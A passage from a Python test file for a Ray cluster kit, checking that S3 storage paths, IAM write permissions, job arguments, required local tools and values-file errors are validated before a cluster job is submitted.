    assert storage_problems(["--storage", "/shared/runs"]) == storage_problems(["--storage", "s3://b/p"]) == []


def test_aws_storage_the_nodes_cannot_write_is_refused_before_submit(tmp_path, monkeypatch):
    """The nodes write S3 only under aws.output_buckets (a data bucket is read-only: the run
    failed at its first checkpoint), and a node's own disk is not the other train node's."""
    from scripts.core import state
    from scripts.providers import aws

    monkeypatch.setattr(state, "LAUNCHED", tmp_path)
    record = {"cluster": "multi_g5", "data_buckets": ["imagenet"], "output_buckets": ["team/runs"]}
    state.config_path("multi_g5").write_text(yaml.safe_dump(build("multi_g5").config))
    assert aws.train_nodes(record) == 2
    (written,) = aws.job_problems(record, "template", ["--data", "s3://imagenet/train", "--storage", "s3://imagenet/runs"])
    assert "may write only under aws.output_buckets (['team/runs'])" in written
    assert "add imagenet (or bucket/prefix) to aws.output_buckets" in written
    # under the writable prefix: taken; beside it (another prefix of the bucket): refused
    assert aws.job_problems(record, "template", ["--data", "s3://imagenet/train", "--storage", "s3://team/runs/a"]) == []
    assert aws.job_problems(record, "template", ["--storage=s3://team/runs"]) == []
    (beside,) = aws.job_problems(record, "template", ["--storage", "s3://team/runsx"])
    assert "may write only under aws.output_buckets" in beside
    (unread,) = aws.job_problems(record, "template", ["--data", "s3://team/other"])  # not data, not under the prefix
    assert "cannot read bucket team" in unread
    (local,) = aws.job_problems(record, "template", ["--storage", "/home/ray/runs"])
    assert "trains on 2 nodes: each would checkpoint apart" in local
    state.config_path("multi_g5").write_text(yaml.safe_dump(build("hetero").config))
    assert aws.job_problems(record, "template", ["--storage", "/home/ray/runs"]) == []  # one train node


def test_output_buckets_grant_writes_under_their_prefixes_only():
    """aws.output_buckets: the head's and the workers' policies let them put, get and
    delete objects under each prefix and list only that prefix, nothing more."""
    from scripts.providers.aws.iam import head_policy, worker_policy
    from scripts.providers.aws.names import worker_profile_name

    values = build("hetero").values
    values["aws"]["output_buckets"] = ["team-runs/ml/vit", "scratch"]
    for policy in (head_policy(values), worker_policy(values)):
        (write,) = [s for s in policy["Statement"] if s["Sid"] == "WriteTheRunsUnderTheOutputPrefixes"]
        assert sorted(write["Resource"]) == ["arn:aws:s3:::scratch/*", "arn:aws:s3:::team-runs/ml/vit",
                                             "arn:aws:s3:::team-runs/ml/vit/*"]
        assert "s3:PutObject" in write["Action"] and "s3:DeleteObject" in write["Action"]
        listing = {s["Resource"]: s.get("Condition") for s in policy["Statement"] if s["Sid"].startswith("ListTheOutputPrefix")}
        assert listing == {"arn:aws:s3:::scratch": None,
                           "arn:aws:s3:::team-runs": {"StringLike": {"s3:prefix": ["ml/vit", "ml/vit/*"]}}}
        assert not [s for s in policy["Statement"] if "s3:*" in s["Action"] or s.get("Resource") == "*"
                    and any(a.startswith("s3:") for a in s["Action"])]
    assert worker_profile_name(values) == "raykit-hetero-worker"


def test_the_templates_own_flags_refuse_relative_paths_before_ray():
    run = subprocess.run([sys.executable, "main.py", "--data", "images", "--storage", "/x"], cwd=REPO / "jobs" / "template",
                         capture_output=True, text=True, timeout=120, env=dict(os.environ, PYTHONPATH=str(REPO / "jobs")))
    assert run.returncode == 2 and "--data must be an absolute path or a URI such as s3://bucket/prefix (got 'images')" in run.stderr, run.stderr


@pytest.mark.parametrize("job,args,said", [
    ("vit_synthetic", ["--stpes", "3"], "ARGS: main.py: error: unrecognized arguments: --stpes 3"),
    ("template", ["--data", "images"], "ARGS: main.py: error: --data must be an absolute path"),
    ("template", ["--data", "/d", "--name", "a/../b"], "ARGS: main.py: error: --name must be letters, digits"),
])
def test_a_jobs_own_parser_refuses_args_before_anything_is_uploaded(job, args, said):
    """`make submit` runs the job's parse_args here first: a mistyped flag was caught only
    after the upload and the packages' install on the cluster."""
    from scripts.commands.jobs import job_args_problem

    problem = job_args_problem(job, args)
    assert problem and problem.startswith(said) and f"`make submit JOB={job} ARGS=--help`" in problem
    assert job_args_problem(job, ["--data", "/abs/dir"] if job == "template" else ["--steps", "3"]) is None
    assert job_args_problem("smoke", ["--anything"]) is None  # no parse_args: the cluster says


def test_a_machine_without_the_providers_tools_is_refused_before_the_account_is_asked(tmp_path, monkeypatch, capsys):
    """`ray up` reaches the nodes with ssh and rsync, KubeRay's commands are kubectl: a
    laptop without them was found out only once the head billed. An empty PATH here."""
    from scripts import kit

    monkeypatch.setenv("PATH", str(tmp_path))
    assert kit.main(["preflight", "--cluster", "hetero"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: this machine lacks ssh, rsync on PATH, which aws needs "
                          "(openssh-client, rsync); install them"), err
    assert kit.main(["preflight", "--cluster", "k8s_hetero"]) == 2
    assert "lacks kubectl on PATH, which kuberay needs" in capsys.readouterr().err
    assert kit.main(["preflight", "--cluster", "local"]) == 0  # nothing outside .venv


@pytest.mark.parametrize("change,said", [
    (lambda v: v["head"].update(spot=True), "head.spot: not a key here: the head is always on-demand, since a "
                                            "reclaimed head ends the cluster"),
    (lambda v: v["workers"]["cpu_worker"].update(instance_type="inf2.xlarge"),
     "workers.cpu_worker.instance_type: inf2.xlarge carries AWS Inferentia2, not NVIDIA GPUs"),
    (lambda v: v["head"].update(instance_type="trn1.2xlarge"), "head.instance_type: trn1.2xlarge carries AWS Trainium"),
])
def test_small_messages_say_why_not_a_did_you_mean(change, said, hetero_values):
    """A key a user expects (head.spot) and a real accelerator type the kit cannot train on
    were answered as typos ("unknown key", "did you mean 'g5.xlarge'?")."""
    from scripts.build import build_text
    from scripts.core.errors import KitError

    change(hetero_values)
    with pytest.raises(KitError) as refused:
        build_text("hetero", yaml.safe_dump(hetero_values).encode())
    assert said in str(refused.value) and "did you mean" not in str(refused.value)


def test_a_mistyped_cluster_or_region_gets_a_did_you_mean(capsys):
    from scripts import kit

    assert kit.main(["validate", "--cluster", "heteor"]) == 2
    assert "no values file heteor.yaml in " in capsys.readouterr().err
    assert kit.main(["validate", "--cluster", "heteor"]) == 2
    assert "did you mean hetero? choose one of: " in capsys.readouterr().err
    assert kit.main(["plan", "--args", "--region us-est-1 --trainer-images-per-s 30 --cpu-images-per-s 10"]) == 2
    assert "--region 'us-est-1' is no AWS region (did you mean us-east-1?)" in capsys.readouterr().err


@pytest.mark.parametrize("text,likely", [
    ("cluster_name: mine\nworkers:\n  cpu_worker:\n    instance_type: c5.2xlarge\n    min_workers: 3\n", "aws"),
    ("cluster_name: mine\nworkers:\n  cpu:\n    pod: {cpus: 4}\n", "kuberay"),
    ("cluster_name: mine\nworkers:\n  cpu:\n    cpus: 2\n", "local"),
    ("cluster_name: namespace-x\n", "local"),  # a word in a value decides nothing
])
def test_a_values_file_without_a_provider_is_pointed_at_the_one_its_keys_belong_to(text, likely):
    """The README's mix snippet saved as a file of its own was told `provider: local`,
    though its workers name instance types: the hint is the provider whose schema knows
    the file's keys best."""
    from scripts.build import build_text
    from scripts.core.errors import KitError

    with pytest.raises(KitError) as refused:
        build_text("mine", text.encode())
    assert str(refused.value).endswith(f"provider: None is not one of aws, kuberay, local; set `provider: {likely}`")
